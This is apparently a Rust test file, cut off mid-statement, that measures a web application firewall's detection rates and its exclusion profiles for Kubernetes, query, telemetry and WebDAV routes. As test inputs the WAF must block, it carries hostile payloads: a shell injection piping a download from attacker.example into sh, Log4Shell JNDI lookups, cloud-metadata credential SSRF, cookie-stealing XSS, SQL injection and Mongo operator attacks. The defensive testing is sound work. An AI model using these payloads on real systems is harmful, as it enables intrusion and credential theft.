//! Corpus tests: detection and false-positive floors over the shared request corpora.
//!
//! The corpora live in `../shared/corpora` next to the repository (present in CI, absent in
//! a user's clone) or wherever `PALISADE_CORPORA` points. When they are missing the tests
//! print a SKIP line and pass.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use rulesets::corpus::CorpusRecord;
use rulesets::report::Summary;
use rulesets::{httpraw, load_builtin, CompiledRuleSet, EvalConfig, Limits};

const ATTACK_CATEGORIES: [&str; 8] = ["sqli", "xss", "lfi", "rfi", "rce", "php", "java", "generic"];

fn corpora() -> Option<PathBuf> {
    let dir = std::env::var_os("PALISADE_CORPORA")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpora"));
    if dir.join("owasp-crs-regression.jsonl").is_file() {
        Some(dir)
    } else {
        eprintln!(
            "SKIP: corpora not found at {} (set PALISADE_CORPORA to run the corpus tests)",
            dir.display()
        );
        None
    }
}

/// The built-in rules, compiled once for all the tests of this file (a compilation is most of
/// a second).
fn builtin() -> &'static CompiledRuleSet {
    static SET: OnceLock<CompiledRuleSet> = OnceLock::new();
    SET.get_or_init(|| load_builtin().unwrap())
}

/// Whether the built-in rules block the raw request under `cfg`.
fn blocks(raw: &[u8], cfg: &EvalConfig) -> bool {
    builtin()
        .evaluate(
            &httpraw::parse_request(raw, Limits::default(), 1 << 20),
            cfg,
        )
        .is_block()
}

/// A JSON `POST` of `body` to `path`, as raw bytes.
fn json_post(path: &str, body: &str) -> Vec<u8> {
    format!(
        "POST {path} HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

fn run(file: &str, paranoia: u8) -> Option<Summary> {
    let path = corpora()?.join(file);
    let set = builtin();
    let cfg = EvalConfig {
        paranoia,
        ..EvalConfig::default()
    };
    let mut summary = Summary::default();
    for (n, line) in std::fs::read_to_string(&path).unwrap().lines().enumerate() {
        let rec = CorpusRecord::parse(line, n + 1).unwrap();
        if rec.category == "response" {
            continue;
        }
        let req = httpraw::parse_request(&rec.to_raw(n + 1).unwrap(), Limits::default(), 1 << 20);
        let v = set.evaluate(&req, &cfg);
        summary.add(&rec.expect, &rec.category, rec.paranoia, v.is_block());
    }
    eprintln!(
        "{file} at paranoia {paranoia}:\n{}",
        summary.table(paranoia)
    );
    Some(summary)
}

#[test]
fn crs_paranoia_1_floor() {
    let Some(s) = run("owasp-crs-regression.jsonl", 1) else {
        return;
    };
    let t = s.detection(&ATTACK_CATEGORIES, 1);
    assert!(
        t.percent() >= 90.0,
        "PL1 detection {:.1}% ({}/{}) < 90%",
        t.percent(),
        t.flagged,
        t.total
    );
    for cat in ATTACK_CATEGORIES {
        let t = s.detection(&[cat], 1);
        eprintln!("PL1 {cat}: {:.1}% ({}/{})", t.percent(), t.flagged, t.total);
    }
}

#[test]
fn crs_paranoia_2_floor() {
    let Some(s) = run("owasp-crs-regression.jsonl", 2) else {
        return;
    };
    let t = s.detection(&ATTACK_CATEGORIES, 2);
    assert!(
        t.percent() >= 90.0,
        "PL1+PL2 detection at PL2 {:.1}% ({}/{}) < 90%",
        t.percent(),
        t.flagged,
        t.total
    );
}

#[test]
fn csic_benign_false_positive_ceiling() {
    let Some(s) = run("csic2010-normal-train.jsonl", 1) else {
        return;
    };
    let t = s.false_positives();
    assert!(t.total > 1000);
    assert!(
        t.percent() <= 1.0,
        "CSIC false positives {:.2}% ({}/{}) > 1%",
        t.percent(),
        t.flagged,
        t.total
    );
}

#[test]
fn prefilter_never_changes_results() {
    // Every third request of both corpora and all of the web traffic, all rules active
    // (paranoia 4): the optimised evaluator must match exactly the rules the unoptimised
    // reference matches.
    let dir = corpora();
    let set = builtin();
    let cfg = EvalConfig {
        paranoia: 4,
        threshold: u32::MAX,
        ..EvalConfig::default()
    };
    let files = ["owasp-crs-regression.jsonl", "csic2010-normal-train.jsonl"];
    let mut requests: Vec<(CorpusRecord, Vec<u8>)> = dir
        .iter()
        .flat_map(|d| files.map(|f| requests_of(&d.join(f), 3)))
        .flatten()
        .collect();
    requests.extend(web_traffic());
    let checked = requests.len();
    let mut diffs = Vec::new();
    for (rec, raw) in &requests {
        let req = httpraw::parse_request(raw, Limits::default(), 1 << 20);
        let fast = set.evaluate_rule_ids(&req, &cfg);
        let slow = set.evaluate_reference(&req, &cfg);
        if fast != slow {
            diffs.push(format!("{}: engine {fast:?} reference {slow:?}", rec.id));
        }
    }
    eprintln!("{checked} requests compared with the reference evaluator");
    assert!(
        diffs.is_empty(),
        "{} differences:\n{}",
        diffs.len(),
        diffs
            .iter()
            .take(30)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
}

/// Every `every`-th record of a corpus file (counting from the first), with its raw request.
fn requests_of(path: &Path, every: usize) -> Vec<(CorpusRecord, Vec<u8>)> {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .enumerate()
        .filter(|(n, _)| n % every == 0)
        .map(|(n, line)| {
            let rec = CorpusRecord::parse(line, n + 1).unwrap();
            let raw = rec.to_raw(n + 1).unwrap();
            (rec, raw)
        })
        .collect()
}

/// The repository's own held-out benign corpus (`scripts/corpus-web.py`): modern browser,
/// API and webhook traffic that neither shared corpus has.
fn web_traffic() -> Vec<(CorpusRecord, Vec<u8>)> {
    requests_of(
        &PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/data/web-traffic.jsonl"),
        1,
    )
}

#[test]
fn web_traffic_passes_at_paranoia_1() {
    let set = builtin();
    let requests = web_traffic();
    assert!(requests.len() > 200);
    for paranoia in [1, 2] {
        let cfg = EvalConfig {
            paranoia,
            ..EvalConfig::default()
        };
        let mut blocked = Vec::new();
        for (rec, raw) in &requests {
            let v = set.evaluate(
                &httpraw::parse_request(raw, Limits::default(), 1 << 20),
                &cfg,
            );
            if v.is_block() {
                let why: Vec<String> = v
                    .matches
                    .iter()
                    .map(|m| format!("{}@{} {:?}", m.rule.id, m.target, m.fragment))
                    .collect();
                blocked.push(format!("{}: {}", rec.id, why.join(", ")));
            }
        }
        eprintln!(
            "web traffic at paranoia {paranoia}: {} of {} blocked\n{}",
            blocked.len(),
            requests.len(),
            blocked.join("\n")
        );
        // Paranoia 2 blocks search words that are command names (`cat food`), quoted search
        // phrases joined by OR, and file names with an apostrophe, by design; it is reported.
        if paranoia == 1 {
            assert!(
                blocked.is_empty(),
                "benign web traffic blocked at paranoia 1"
            );
        }
    }
}

/// Every record of one of the repository's own corpora (`tests/data/NAME`), and whether the
/// built-in rules block it at paranoia 1.
fn blocked_at_paranoia_1(name: &str) -> Vec<(CorpusRecord, bool)> {
    blocked_with(name, &EvalConfig::default())
}

/// [`blocked_at_paranoia_1`] under `cfg` (exclusions, another level).
fn blocked_with(name: &str, cfg: &EvalConfig) -> Vec<(CorpusRecord, bool)> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(name);
    requests_of(&path, 1)
        .into_iter()
        .map(|(rec, raw)| {
            let blocked = blocks(&raw, cfg);
            (rec, blocked)
        })
        .collect()
}

/// The evaluation settings of a proxy profile (`proxy/profiles/NAME.yaml`, a list of
/// exclusions), which must parse and compile.
fn profile(name: &str) -> EvalConfig {
    let file =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(format!("../proxy/profiles/{name}.yaml"));
    let text = std::fs::read_to_string(&file).unwrap();
    let specs: Vec<rulesets::ExclusionSpec> = serde_yaml::from_str(&text).unwrap();
    EvalConfig {
        exclusions: std::sync::Arc::new(rulesets::Exclusions::compile(&specs).unwrap()),
        ..EvalConfig::default()
    }
}

/// The ids of a held-out corpus's benign requests blocked under `cfg`: its dev-content
/// (`dev == true`) or its ordinary ones.
fn benign_blocked(name: &str, cfg: &EvalConfig, dev: bool) -> Vec<String> {
    blocked_with(&format!("{name}-benign.jsonl"), cfg)
        .into_iter()
        .filter(|(rec, blocked)| *blocked && rec.id.contains("/dev-content/") == dev)
        .map(|(rec, _)| rec.id)
        .collect()
}

/// How many of a held-out corpus's attacks pass under `cfg`.
fn attacks_missed(name: &str, cfg: &EvalConfig) -> usize {
    blocked_with(&format!("{name}-attacks.jsonl"), cfg)
        .iter()
        .filter(|(_, blocked)| !blocked)
        .count()
}

/// Floors of one of the repository's held-out corpora at paranoia 1: at most `max_missed`
/// attacks let through, at most `max_dev_content` benign requests blocked in `dev-content`
/// (pasted code and saved SQL, which a WAF flags by design and a route exclusion clears), and
/// at most `max_other_benign` blocked outside it.
fn held_out_floors(
    name: &str,
    min_requests: usize,
    max_missed: usize,
    max_dev_content: usize,
    max_other_benign: usize,
) {
    let attacks = blocked_at_paranoia_1(&format!("{name}-attacks.jsonl"));
    assert!(
        attacks.len() >= min_requests,
        "{name}: {} attacks",
        attacks.len()
    );
    let missed: Vec<&str> = attacks
        .iter()
        .filter(|(_, blocked)| !blocked)
        .map(|(rec, _)| rec.id.as_str())
        .collect();
    eprintln!(
        "{name} attacks at paranoia 1: {} of {} blocked; missed: {missed:?}",
        attacks.len() - missed.len(),
        attacks.len()
    );
    assert!(
        missed.len() <= max_missed,
        "{name}: {} attacks let through (floor {max_missed}): {missed:?}",
        missed.len()
    );

    let benign = blocked_at_paranoia_1(&format!("{name}-benign.jsonl"));
    assert!(
        benign.len() >= min_requests / 2,
        "{name}: {} benign",
        benign.len()
    );
    let blocked: Vec<(&str, &str)> = benign
        .iter()
        .filter(|(_, blocked)| *blocked)
        .map(|(rec, _)| (rec.id.as_str(), rec.category.as_str()))
        .collect();
    eprintln!("{name} benign at paranoia 1: blocked {blocked:?}");
    // (A category of its own, or a sub-label of `benign`: `dataops/benign/dev-content/7`.)
    let wrongly: Vec<_> = blocked
        .iter()
        .filter(|(id, c)| *c != "dev-content" && !id.contains("/dev-content/"))
        .collect();
    assert!(
        wrongly.len() <= max_other_benign,
        "{name}: {} benign requests blocked (floor {max_other_benign}): {wrongly:?}",
        wrongly.len()
    );
    assert!(
        blocked.len() - wrongly.len() <= max_dev_content,
        "{name}: {} dev-content requests blocked (floor {max_dev_content})",
        blocked.len() - wrongly.len()
    );
}

/// The repository's probe corpus (`scripts/corpus-probe.py`): attacks of every class placed
/// in query, form, JSON, cookie, header and multipart fields, and hard benign traffic, written
/// without reading the rules (held out until the fixes of 2026-12-04 were made against it).
#[test]
fn probe_corpus_floors_at_paranoia_1() {
    // 2026-12-04: 758 of 770 attacks blocked (98.4 %), 761 (98.8 %) once the metadata rules
    // read the User-Agent and the Referer; 21 dev-content posts blocked. Later the same
    // day, 768 (99.7 %): LDAP and RFI payloads in the User-Agent, `%%0a0a` line breaks.
    held_out_floors("probe", 700, 2, 25, 0);
}

/// The evasion corpus (`scripts/corpus-evasions.py`): attacks written to get past signature
/// WAFs (comments inside keywords, odd whitespace, encodings, nested lookups, shell globbing)
/// and benign traffic with the same surface (escaped rich text, Windows paths, math, code).
#[test]
fn evasion_corpus_floors_at_paranoia_1() {
    // 2026-12-04, first sight: 456 of 458 (one line carries no payload, one is Mongo's
    // `{"$type": 2}`, caught since by nosqli-111); no benign look-alike blocked, none of
    // them dev-content. 2026-12-05: 457, the other one let through at PL1 being
    // `filter[$or][1][role][$ne]=x`, comparison operators under a `filter` root, which
    // Strapi, Directus and the MongoDB Data API take by design (nosqli.toml; PL2 blocks it).
    held_out_floors("evasions", 400, 2, 0, 0);
}

/// The real-world corpus (`scripts/corpus-realworld.py`): payloads in the styles of real
/// tooling (sqlmap tampers, commix, XSS polyglots, Log4Shell obfuscation, metadata SSRF,
/// SAML XXE, smuggling) placed where clients put them, and production traffic that is hard
/// for a WAF (GraphQL, webhooks, JWTs, uploads, search terms with SQL words). Written without
/// reading the rules; measured first, then fixed by class (2026-12-04).
#[test]
fn realworld_corpus_floors_at_paranoia_1() {
    // 2026-12-04: first sight 484 of 498 blocked (97.2 %), after the class fixes 493
    // (99.0 %); 37 of 45 dev-content posts blocked, no other benign request. Later: 497
    // (99.8 %); the one let through is an h2c upgrade, which the proxy removes before
    // forwarding (proxy/README.md, "WebSocket and other HTTP/1.1 upgrades").
    held_out_floors("realworld", 450, 0, 40, 0);
}

/// The API corpus (`scripts/corpus-apis.py`): what a workload behind a sidecar sees from API
/// clients — Kubernetes objects, webhooks, telemetry, GraphQL, OAuth, chat — and attacks
/// delivered through it (nested JSON, GraphQL variables, uploads, path segments, published CVE
/// exploits). Written without reading the rules (2026-12-04, late).
#[test]
fn apis_corpus_floors_at_paranoia_1() {
    // 2026-12-04, first sight: 438 of 465 attacks blocked (94.2 %), 86 of 586 benign requests
    // blocked (14.7 %). After the class fixes: 452 (97.2 %) and 71 (12.1 %). What is still
    // blocked carries code by design: Kubernetes objects with shell commands (32), SQL
    // statements in traces and chat (12), docs with code (6): route exclusions for those
    // endpoints (proxy/README.md, `routes[].exclusions`), not rule changes. 2026-12-05: the
    // 8 HTML e-mail bodies it blocked pass, judged as documents (xss-003), and two docs with
    // code (markdown fences, LaTeX): 61 (10.4 %). Later the same day a LogQL query, a
    // gRPC-gateway call and two Argo CD Applications pass: 57. Later, a Logback `%X{traceId}`
    // pattern in a ConfigMap is no Ruby `%x{…}` (generic-131): 56; with the Kubernetes API
    // profile, 29 (`kubernetes_profile_opens_workload_specs_only`).
    held_out_floors("apis", 400, 3, 0, 56);
}

/// The Kubernetes API profile (`proxy/profiles/kubernetes-api.yaml`) opens the fields of
/// Kubernetes objects that carry commands and files by design, for the classes they trip, and
/// nothing else: the same payloads elsewhere in the object, other classes in those fields, and
/// ordinary application APIs under look-alike prefixes stay judged.
#[test]
fn kubernetes_profile_opens_workload_specs_only() {
    let cfg = profile("kubernetes-api");
    let wrongly = benign_blocked("apis", &cfg, false);
    // 2026-12-05: 56 ordinary requests blocked without the profile (29 of them Kubernetes
    // objects and admission reviews), 29 with it, of which 2 Kubernetes objects: a kubelet
    // event quoting a pod URL by IP, an ingress's nginx configuration snippet.
    let k8s: Vec<&String> = wrongly.iter().filter(|id| id.contains("/k8s/")).collect();
    assert!(k8s.len() <= 2, "{k8s:?}");
    assert!(
        wrongly.len() <= 29,
        "{} blocked: {wrongly:?}",
        wrongly.len()
    );
    // The platform corpus (admission webhooks at `/v1/admit` and `/inject`, the API server
    // behind Rancher and Headlamp, Argo Workflows, `kubectl exec`, OPA's admission path): 85
    // blocked without the profile, 42 with it (2026-12-06), none of them a workload spec but
    // a JSON patch that replaces a container's command.
    let platform = benign_blocked("platform", &cfg, false);
    assert!(
        platform.len() <= 42,
        "{} blocked: {platform:?}",
        platform.len()
    );
    for name in ["apis", "evasions", "devops", "frameworks", "platform"] {
        assert_eq!(
            attacks_missed(name, &cfg),
            attacks_missed(name, &EvalConfig::default()),
            "{name}: the profile lets an attack through"
        );
    }
    let review = |container: serde_json::Value, metadata: serde_json::Value| {
        serde_json::json!({"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1",
            "request": {"uid": "7d1c", "object": {"kind": "Pod", "metadata": metadata,
                "spec": {"containers": [container]}}}})
        .to_string()
    };
    let backup = serde_json::json!({"name": "backup", "image": "postgres:16",
        "command": ["sh", "-c", "pg_dump -Fc shop > /backup/shop-$(date +%F).dump && cat /etc/hostname"],
        "env": [{"name": "PGPASSFILE", "value": "/var/run/secrets/pgpass"}]});
    let plain = serde_json::json!({"name": "backup"});
    let opened = json_post("/validate-v1-pod", &review(backup.clone(), plain.clone()));
    assert!(blocks(&opened, &EvalConfig::default()));
    assert!(!blocks(&opened, &cfg));
    // What stays judged: the same command in a name, Java lookups and SSRF in the opened
    // fields, XSS in an annotation, and an application API under `/api/v1/`.
    let name = serde_json::json!({"name": "x;curl http://attacker.example/s|sh"});
    let jndi = serde_json::json!({"name": "app", "image": "app:1",
        "env": [{"name": "LOG", "value": "${jndi:ldap://attacker.example/a}"}]});
    let imds = serde_json::json!({"name": "app", "image": "app:1",
        "args": ["--fetch=http://169.254.169.254/latest/meta-data/iam/security-credentials/"]});
    let xss = serde_json::json!({"name": "web",
        "annotations": {"description": "<img src=x onerror=alert(document.cookie)>"}});
    for body in [
        review(plain.clone(), name),
        review(jndi, plain.clone()),
        review(imds, plain.clone()),
        review(plain.clone(), xss),
    ] {
        assert!(blocks(&json_post("/mutate", &body), &cfg), "{body}");
    }
    let app = r#"{"data": {"attributes": {"sort": "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -"}}}"#;
    assert!(blocks(&json_post("/api/v1/items", app), &cfg));
}

/// `proxy/profiles/query-endpoints.yaml`: on a graph, time-series, SPARQL or Mongo endpoint
/// the query field is opened for the SQL and NoSQL operator rules only.
#[test]
fn query_endpoints_profile_opens_query_fields_only() {
    let cfg = profile("query-endpoints");
    let wrongly = benign_blocked("querylang", &cfg, false);
    // 2026-12-06: 28 ordinary requests blocked without the profile, 3 with it: a Fuseki
    // dataset at its own path (`/ds/query`) and two Jira JQL filters.
    assert!(wrongly.len() <= 3, "{} blocked: {wrongly:?}", wrongly.len());
    for name in ["querylang", "apis", "evasions", "dataops", "bypass", "cves"] {
        assert_eq!(
            attacks_missed(name, &cfg),
            attacks_missed(name, &EvalConfig::default()),
            "{name}: the profile lets an attack through"
        );
    }
    let neo4j = |statement: &str| {
        json_post(
            "/db/neo4j/tx/commit",
            &serde_json::json!({"statements": [{"statement": statement}]}).to_string(),
        )
    };
    let labels = neo4j("CALL db.labels() YIELD label RETURN label ORDER BY label");
    assert!(blocks(&labels, &EvalConfig::default()));
    assert!(!blocks(&labels, &cfg));
    // What stays judged on those routes: a URL loaded by the query, Log4Shell and XSS in
    // it, and server-side JavaScript or the system collections in a Mongo pipeline.
    for raw in [
        neo4j("LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/' AS row RETURN row"),
        neo4j("MATCH (n) WHERE n.name = '${jndi:ldap://attacker.example/a}' RETURN n"),
        neo4j("CREATE (n:Note {text: '<script>alert(document.cookie)</script>'})"),
        json_post(
            "/app/data-abc/endpoint/data/v1/action/aggregate",
            r#"{"pipeline": [{"$match": {"$where": "sleep(5000) || true"}}]}"#,
        ),
        json_post(
            "/app/data-abc/endpoint/data/v1/action/aggregate",
            r#"{"pipeline": [{"$lookup": {"from": "system.users", "as": "u", "pipeline": []}}]}"#,
        ),
        json_post(
            "/app/data-abc/endpoint/data/v1/action/aggregate",
            r#"{"pipeline": [{"$out": {"db": "admin", "coll": "x"}}]}"#,
        ),
    ] {
        assert!(blocks(&raw, &cfg), "{}", String::from_utf8_lossy(&raw));
    }
    // The same statement outside the route, and in another field on it, is still judged.
    let search = json_post(
        "/api/search",
        r#"{"statement": "CALL db.labels() YIELD label RETURN label"}"#,
    );
    assert!(blocks(&search, &cfg));
    let other = json_post(
        "/db/neo4j/tx/commit",
        r#"{"statements": [{"statement": "RETURN 1", "comment": "CALL dbms.security.listUsers()"}]}"#,
    );
    assert!(blocks(&other, &cfg));
}

/// The frameworks corpus (`scripts/corpus-frameworks.py`): what applications on Rails,
/// Django, Laravel/Livewire, Next.js, Spring, ASP.NET, Express/NestJS, Phoenix, WordPress,
/// Strapi/Directus and htmx receive, over the transports modern clients use (gzip and deflate
/// bodies, JSON Lines, JSON Patch, CloudEvents, JSON cookies, UTF-16), and attacks carried the
/// same ways. Written without reading the rules (2026-12-05).
#[test]
fn frameworks_corpus_floors_at_paranoia_1() {
    // 2026-12-05, first sight (rules and engine of dbae216): 431 of 444 attacks blocked
    // (97.1 %), 26 of 561 benign requests blocked (4.6 %). After the class fixes: 443
    // (99.8 %; let through: an SSRF to a `*.svc.cluster.local` name, which Kubernetes
    // configuration carries as often as attacks do) and 2 (0.4 %: SQL text in OTLP spans, a
    // route exclusion).
    held_out_floors("frameworks", 400, 1, 0, 2);
}

/// The content corpus (`scripts/corpus-content.py`): what users write — editor rich text
/// (TinyMCE/CKEditor HTML, Quill/ProseMirror/Lexical JSON), markdown, HTML e-mails posted by
/// inbound-mail webhooks, international text, LaTeX, CSV/iCalendar/vCard imports, SVG and
/// other uploads — and stored attacks carried the same ways. Written without reading the rules
/// (2026-12-05).
#[test]
fn content_corpus_floors_at_paranoia_1() {
    // 2026-12-05, first sight (rules and engine of ef783c5): 469 of 516 attacks blocked
    // (90.9 %), 79 of 626 benign requests blocked (12.6 %). After the class fixes (whole HTML
    // documents judged by what runs in them, uploads' names, text, table cells and calendar
    // properties read, formula, CRLF and TeX classes): 510 (98.8 %) and 16 (2.6 %). What is
    // still blocked is code pasted into posts (a JavaScript `setTimeout(`, C and Go
    // `printf(`, a Makefile's `rm -f`, PowerShell, a PHP controller): a route exclusion for
    // those endpoints. Let through: a WordPress shortcode include, base64 documents, a
    // phishing `HYPERLINK` with no cell data, and `filter[$or]` on a filter root, which query
    // APIs take by design (nosqli.toml).
    // Later the same day: base64 text documents in arguments judged as files' contents, 512
    // (a repository file with a `javascript:` link and a base64 CSV import with a DDE formula
    // now caught). 2026-12-07: Python's `print(greet("Ada"))` in markdown is no PHP call
    // (php-111): 13.
    held_out_floors("content", 450, 3, 0, 13);
}

/// The identity corpus (`scripts/corpus-identity.py`): login, registration and reset forms
/// with generated passwords, OAuth 2.0 / OIDC / SAML 2.0 / WS-Federation flows, WebAuthn, SCIM,
/// directory administration, identity providers' session cookies; and attacks carried the
/// same ways (base64 and DEFLATE SAML messages included). Written without reading the rules
/// (2026-12-05).
#[test]
fn identity_corpus_floors_at_paranoia_1() {
    // 2026-12-05, first sight (rules and engine of 460517d): 504 of 520 attacks blocked
    // (96.9 %), 29 of 640 benign requests blocked (4.5 %). After the class fixes (XML
    // documents carried base64 or DEFLATE-base64 in arguments read as documents, XML documents
    // in fields judged as documents, the AWS JSON protocols, RFC 8252 loopback redirect URIs,
    // LDAP server addresses, template `{% if %}`, `$[…]` as arithmetic only, `'||'`
    // concatenation, forged proxy identity headers): 520 (100 %) and 0.
    held_out_floors("identity", 500, 0, 0, 0);
}

/// The data and observability corpus (`scripts/corpus-dataops.py`): Grafana, Kibana,
/// Elasticsearch, Prometheus/Loki/Tempo, InfluxDB, OTLP, log shippers, Jupyter, Airflow,
/// MLflow, Argo and BI tools, where users write query languages and logs carry SQL, paths and
/// stack traces; and these tools' known CVEs. Written without reading the rules (2026-12-05).
#[test]
fn dataops_corpus_floors_at_paranoia_1() {
    // 2026-12-05, first sight (rules and engine of 460517d): 532 of 547 attacks blocked
    // (97.3 %); 83 of 548 ordinary benign requests blocked (15.1 %), 63 of 78 dev-content
    // (SQL Lab queries, notebook cells). After the class fixes (sqli-020 reads a break-out
    // only at a value's first quote, so LogQL/TraceQL/KQL/ES|QL comparisons pass; cloud
    // metadata paths behind proxying routes; InfluxQL; Jolokia; snappy bodies; vendor media
    // types; markdown code spans are no tagged templates): 545 (99.6 %; let through: Zabbix's
    // `2'3297` probe, and `filter[x][$regex]`, which query APIs take by design) and 57
    // (10.4 %), 55 dev-content. What is still blocked
    // is log and telemetry shipping (OTLP spans' `db.statement` SQL, ORM log lines, log file
    // paths, Java and Python stack traces): ingestion endpoints want a route exclusion.
    held_out_floors("dataops", 500, 2, 54, 56);
}

/// The developer-platform corpus (`scripts/corpus-devops.py`): Git hosts' webhooks, Jenkins,
/// Argo CD, Kubernetes manifests, npm/PyPI/Maven/OCI registries, Vault and Consul, and their
/// known CVEs. Written without reading the rules (2026-12-05, late).
#[test]
fn devops_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of b211f55): 233 of 246 attacks blocked (94.7 %), 28 of
    // 220 ordinary benign requests blocked (12.7 %), 30 of 30 dev-content (pipeline scripts).
    // After the class fixes (args-file expansion `@/etc/passwd`, path parameters before a
    // servlet extension, deploy tools' in-cluster API target, Consul health-check URLs): 245
    // (let through: TeamCity's `/hax?jsp=/app/rest/users;.jsp`, the bypass in a query) and
    // 12: Maven pom.xml uploads whose dependencies name `org.apache.logging.log4j`. Then 0:
    // java-110 asks a class, not a package, of the libraries that are also dependencies.
    held_out_floors("devops", 200, 1, 30, 0);
}

/// The commerce and CMS corpus (`scripts/corpus-commerce.py`): WordPress and WooCommerce,
/// Magento, Drupal and Shopify-style storefronts, checkouts, reviews, payment webhooks, and
/// their known exploits. Written without reading the rules (2026-12-05, fourth session).
#[test]
fn commerce_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of 4f664b2): 260 of 265 attacks blocked (98.1 %), 4 of 526
    // ordinary benign requests blocked (0.8 %), 26 of 52 dev-content (tracking widgets,
    // templates, report SQL). After the class fixes (Magento's template filter, http URLs to
    // non-HTTP ports, XML-RPC pingbacks to internal hosts, `SELECT15` coupons and a note's
    // `(select 'B')`): 264 (let through: a product search's `$ne` filter, which query APIs
    // such as Strapi take by design) and 0.
    held_out_floors("commerce", 250, 1, 30, 0);
}

/// The proxy's telemetry profile (`proxy/profiles/telemetry-ingestion.yaml`) parses and
/// compiles as exclusions, clears the log and span shipping of the data/observability corpus,
/// and lets no attack of that corpus through (they do not target ingestion paths) nor one
/// aimed at an ingestion path with a class it keeps.
#[test]
fn telemetry_profile_clears_log_shipping() {
    let cfg = profile("telemetry-ingestion");
    let wrongly = benign_blocked("dataops", &cfg, false);
    // 2026-12-05: 57 ordinary requests blocked without the profile, 12 with it.
    assert!(
        wrongly.len() <= 12,
        "{} blocked: {wrongly:?}",
        wrongly.len()
    );
    let missed = attacks_missed("dataops", &cfg);
    assert!(missed <= 2, "{missed} attacks let through with the profile");
    // What the profile keeps on an ingestion path: Log4Shell and stored XSS in a log record.
    for payload in [
        "${jndi:ldap://attacker.example/a}",
        "<img src=x onerror=alert(document.domain)>",
    ] {
        let body = serde_json::json!({"resourceLogs": [{"scopeLogs": [{"logRecords": [
            {"body": {"stringValue": payload}}]}]}]})
        .to_string();
        assert!(blocks(&json_post("/v1/logs", &body), &cfg), "{payload}");
    }
    // Sentry's envelope endpoint, whose prefix carries the project id (`path_pattern`):
    // 2026-12-06, the mobile corpus's 9 Sentry events and spans (SQL span descriptions, Java
    // frames) pass with the profile, and no attack of that corpus gets through.
    let sentry: Vec<String> = benign_blocked("mobile", &cfg, false)
        .into_iter()
        .filter(|id| id.contains("/sentry-"))
        .collect();
    assert!(sentry.is_empty(), "{sentry:?}");
    assert_eq!(
        attacks_missed("mobile", &cfg),
        attacks_missed("mobile", &EvalConfig::default())
    );
    // The telemetry corpus (2026-12-06, third session): 202 ordinary requests blocked
    // without the profile, 39 with it (receivers at a custom path: Falco, a JUnit upload, a
    // Vector or syslog source at `/`; error trackers that post to `/`; forwarded WAF and IDS
    // alerts, which quote attacks; search GETs). One attack on an ingestion path gets
    // through with it: PHP in a log record (log poisoning, for an application that includes
    // its logs).
    let wrongly = benign_blocked("telemetry", &cfg, false);
    assert!(
        wrongly.len() <= 39,
        "{} blocked: {wrongly:?}",
        wrongly.len()
    );
    assert!(attacks_missed("telemetry", &cfg) <= 1);
    // A span of an instrumented client's call to the cloud metadata service is stored, not
    // fetched: it passes on the OTLP route. Sentry fetches source maps: not there.
    let imds = r#"{"resourceSpans":[{"scopeSpans":[{"spans":[{"name":"PUT","attributes":[{"key":"http.url","value":{"stringValue":"http://169.254.169.254/latest/api/token"}}]}]}]}]}"#;
    assert!(!blocks(&json_post("/v1/traces", imds), &cfg));
    let frame = r#"{"exception":{"values":[{"stacktrace":{"frames":[{"abs_path":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}]}}]}}"#;
    assert!(blocks(&json_post("/api/4507/store/", frame), &cfg));
    let span = r#"{"spans": [{"op": "db.sql.query", "description": "SELECT * FROM orders WHERE id = ?"}]}"#;
    assert!(!blocks(&json_post("/api/4507/envelope/", span), &cfg));
    assert!(blocks(&json_post("/api/orders/envelope/", span), &cfg));
}

/// The storage and collaboration corpus (`scripts/corpus-collab.py`): S3-compatible object
/// storage, WebDAV, CalDAV and CardDAV, tus uploads, chat, webmail, document editors and wikis.
/// Written without reading the rules (2026-12-05, fourth session).
#[test]
fn collab_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of 87f9f31): 287 of 307 attacks blocked (93.5 %), 86 of
    // 495 ordinary benign requests blocked (17.4 %: WebDAV's methods, tus uploads' media type,
    // a wiki's CQL), 31 of 50 dev-content (code pasted in chat and wikis). After the class
    // fixes (archive entries that climb out of the extraction directory, commands in WebDAV
    // paths, tus, CQL and JQL, and a bug: literals derived from a case-sensitive regex lost
    // their capitals, so `PROPFIND` or `rO0AB` never reached their regex): 296 and 76, all of
    // them WebDAV's methods and headers, which stay refused unless the route is a DAV
    // server's (`webdav_profile_opens_dav_routes_only`). Let through: method-override
    // headers and `_method` in a query (PL2), Mongo-style filters (query APIs take them),
    // cluster-internal fetch URLs (PL2), `X-Original-URL`, a wiki macro's include URL.
    held_out_floors("collab", 290, 7, 29, 76);
}

/// The WebDAV profile (`proxy/profiles/webdav.yaml`) opens a DAV server's routes to
/// WebDAV's methods and headers, and nothing else: the collaboration corpus's WebDAV,
/// CalDAV and CardDAV traffic passes, its attacks are still blocked, and TRACE and WebDAV
/// methods elsewhere stay refused.
#[test]
fn webdav_profile_opens_dav_routes_only() {
    let cfg = profile("webdav");
    let wrongly = benign_blocked("collab", &cfg, false);
    // 2026-12-05: 76 ordinary requests blocked without the profile, 4 with it (file names
    // with a `;` or unescaped quotes, which multipart parsers read differently).
    assert!(wrongly.len() <= 4, "{} blocked: {wrongly:?}", wrongly.len());
    let missed = attacks_missed("collab", &cfg);
    assert!(
        missed <= 11,
        "{missed} attacks let through with the profile"
    );
    let judge = |raw: &str| blocks(raw.as_bytes(), &cfg);
    assert!(!judge(
        "PROPFIND /remote.php/dav/files/alice/ HTTP/1.1\r\nHost: cloud\r\nDepth: 1\r\n\r\n"
    ));
    assert!(
